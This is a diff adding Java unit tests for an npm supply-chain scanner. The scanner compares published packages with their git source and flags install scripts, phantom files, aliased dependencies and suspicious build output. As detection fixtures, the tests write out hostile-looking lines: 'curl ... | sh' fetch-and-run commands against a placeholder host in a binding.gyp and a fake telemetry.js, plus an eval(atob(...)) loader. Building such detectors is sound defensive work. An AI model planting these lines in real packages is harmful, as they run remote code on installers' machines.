@@ -138,9 +138,12 @@ class NpmScanTest {
             assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
             assertTrue(pj.highRisk());
             assertEquals("adds postinstall: node setup_bun.js", pj.detail().orElseThrow());
-            assertEquals(FileStatus.PHANTOM, row(a, "package/setup_bun.js").status());
+            FileDivergence script = row(a, "package/setup_bun.js");
+            assertEquals(FileStatus.PHANTOM, script.status());
+            // The file the new postinstall runs is execution-relevant in its own right.
+            assertTrue(script.riskFlags().contains(RiskFlag.AUTO_EXEC));
             assertEquals(Verdict.HIGH_RISK, r.verdict());
-            assertEquals(List.of("package/package.json"), a.highRiskPaths());
+            assertEquals(List.of("package/package.json", "package/setup_bun.js"), a.highRiskPaths());
         }
     }
 
@@ -231,5 +234,177 @@ class NpmScanTest {
             assertEquals(Optional.of("unpublished from the registry"), rs.get(1).yankedReason());
             assertEquals(Set.of("sha512", "sha1"), rs.get(2).artifacts().get(0).digests().keySet());
         }
+    }
+
+    private ArtifactReport publishAndScan(SortedMap<String, byte[]> tree, String version, SortedMap<String, byte[]> shipped)
+            throws Exception {
+        commit(tree, version);
+        git.tag("v" + version, false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish(version, shipped);
+            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
+        }
+    }
+
+    @Test
+    void scriptsThatDoNotRunOnAConsumersInstallAreAFindingNotHighRisk() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.0.0", with(tree, "package.json", pkgJson("widget", "4.0.0",
+                ",\n  \"scripts\": {\"prepare\": \"node build.js\", \"prepublishOnly\": \"npm test\", \"postpack\": \"rm x\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MODIFIED, pj.status());
+        assertEquals(NpmGeneratedFiles.PUBLISHER_SCRIPT, pj.ruleId());
+        assertFalse(pj.highRisk());
+        assertEquals("adds prepare: node build.js (not run on install); adds postpack: rm x (not run on install); "
+                + "adds prepublishOnly: npm test (not run on install)", pj.detail().orElseThrow());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    @Test
+    void filesThatBinMainAndExportsLoadAreHighRiskWhenModified() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.0",
+                        ",\n  \"exports\": {\".\": \"./index.js\", \"./feature\": {\"require\": \"./lib/feature.js\"},"
+                                + " \"./plugins/*\": \"./plugins/*.js\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "lib/feature.js", "exports.f = 1;\n", "plugins/a.js", "exports.a = 1;\n", "notes.js", "// notes\n");
+        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree, "cli.js", "require('./index');\nrequire('./x');\n",
+                "lib/feature.js", "exports.f = 2;\n", "plugins/a.js", "exports.a = 2;\n", "notes.js", "// more notes\n"));
+        for (String p : List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.MODIFIED, f.status(), p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
+            assertTrue(f.highRisk(), p);
+        }
+        FileDivergence notes = row(a, "package/notes.js");
+        assertEquals(FileStatus.MODIFIED, notes.status());
+        assertFalse(notes.highRisk());
+        assertEquals(List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js"),
+                a.highRiskPaths().stream().sorted().toList());
+    }
+
+    @Test
+    void aBindingGypTheSourceLacksRunsOnInstallAndIsHighRisk() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        String gyp = "{'targets': [{'target_name': 'x', 'actions': [{'action': ['sh', '-c', 'curl example.invalid | sh']}]}]}\n";
+        ArtifactReport a = publishAndScan(tree, "4.2.0", with(tree, "binding.gyp", gyp, "package.json",
+                pkgJson("widget", "4.2.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"}")));
+        FileDivergence g = row(a, "package/binding.gyp");
+        assertEquals(FileStatus.PHANTOM, g.status());
+        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertTrue(g.highRisk());
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
+        assertTrue(pj.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void npmsOwnNodeGypInstallScriptIsExplainedWhenTheSourceHasTheBindingGyp() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
+        ArtifactReport a = publishAndScan(tree, "4.3.0", with(tree, "package.json",
+                pkgJson("widget", "4.3.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"},\n  \"gypfile\": true")));
+        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
+        FileDivergence g = row(a, "package/binding.gyp");
+        assertEquals(FileStatus.MATCH, g.status());
+        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void anAliasUrlOrGitSpecUnderADeclaredNameIsANewDependency() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.4.0",
+                        ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"@acme/util\": \"workspace:^\", \"chalk\": \"^5.0.0\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.4.0", with(tree, "package.json", pkgJson("widget", "4.4.0",
+                ",\n  \"dependencies\": {\"left-pad\": \"npm:evil-pad@1.0.0\", \"@acme/util\": "
+                        + "\"git+https://example.invalid/util.git\", \"chalk\": \"^5.0.0\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
+        assertTrue(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
+        assertTrue(pj.highRisk());
+        assertEquals("new dependencies [@acme/util git+https://example.invalid/util.git (source: workspace:^), "
+                + "left-pad npm:evil-pad@1.0.0 (source: ^1.0.0)]", pj.detail().orElseThrow());
+    }
+
+    @Test
+    void publishConfigIsAppliedFromTheSourceOnlyNeverFromThePublishedManifest() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0",
+                        ",\n  \"publishConfig\": {\"bin\": \"./dist/cli.js\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        // honest: the source's publishConfig moved bin to dist/ at publish
+        ArtifactReport honest = publishAndScan(tree, "4.5.0", with(tree, "dist/cli.js", "require('../index');\n",
+                "package.json", "{\"name\":\"widget\",\"version\":\"4.5.0\",\"main\":\"index.js\",\"bin\":{\"widget\":\"dist/cli.js\"},"
+                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"bin\":\"./dist/cli.js\"}}"));
+        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(honest, "package/package.json").ruleId());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(honest, "package/dist/cli.js").status());
+        assertEquals(Verdict.EXPLAINED, honest.verdict());
+    }
+
+    @Test
+    void aPublishedManifestsOwnPublishConfigDoesNotExplainItsMain() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.6.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.6.0", with(tree, "loader.js", "module.exports = require('./index');\n",
+                "package.json", "{\"name\":\"widget\",\"version\":\"4.6.0\",\"main\":\"loader.js\",\"bin\":\"./cli.js\","
+                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"main\":\"./index.js\"}}"));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId());
+        assertEquals("package.json fields differ: [main]", pj.detail().orElseThrow());
+        FileDivergence loader = row(a, "package/loader.js");
+        assertEquals(FileStatus.PHANTOM, loader.status());
+        assertTrue(loader.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertTrue(loader.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0", ""),
+                "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
+                "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
+                        + "//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
+                        + Base64.getEncoder().encodeToString(new byte[900]) + "\n",
+                "dist/boot.js", "module.exports = eval(atob(process.env.X));\n",
+                "dist/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
+                "dist/impl.min.js", "exports.x=1;".repeat(400) + "\n",
+                "dist/telemetry.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n"));
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/impl.js").status());
+        assertFalse(row(a, "package/dist/impl.js").highRisk());
+        assertFalse(row(a, "package/dist/impl.min.js").highRisk(), "minified alone is expected in build output");
+        FileDivergence t = row(a, "package/dist/telemetry.js");
+        assertEquals(FileStatus.BUILD_OUTPUT, t.status());
+        assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, t.ruleId());
+        assertTrue(t.riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
+        assertTrue(t.highRisk());
+        // regex .exec(, fromCharCode, the Function("return this") shim and an inline source map are what bundles hold
+        assertEquals(Set.of(RiskFlag.CODE), row(a, "package/dist/impl.js").riskFlags());
+        assertTrue(row(a, "package/dist/boot.js").riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
+        assertTrue(row(a, "package/dist/blob.js").riskFlags().contains(RiskFlag.ENCODED_BLOB));
+        assertEquals(List.of("package/dist/blob.js", "package/dist/boot.js", "package/dist/telemetry.js"),
+                a.highRiskPaths().stream().sorted().toList());
+        assertEquals(5, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aFileMainLoadsIsNotExcusedAsAccidentalJunk() throws Exception {
+        String manifest = "{\"name\":\"widget\",\"version\":\"4.8.0\",\"main\":\"coverage/boot.js\","
+                + "\"repository\":\"github:acme/widget\"}\n";
+        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n");
+        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree, "coverage/boot.js", "module.exports = require('../index');\n",
+                "coverage/lcov.info", "TN:\n"));
+        FileDivergence junk = row(a, "package/coverage/lcov.info");
+        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId());
+        assertFalse(junk.highRisk());
+        FileDivergence boot = row(a, "package/coverage/boot.js");
+        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, boot.ruleId());
+        assertTrue(boot.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertTrue(boot.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 }
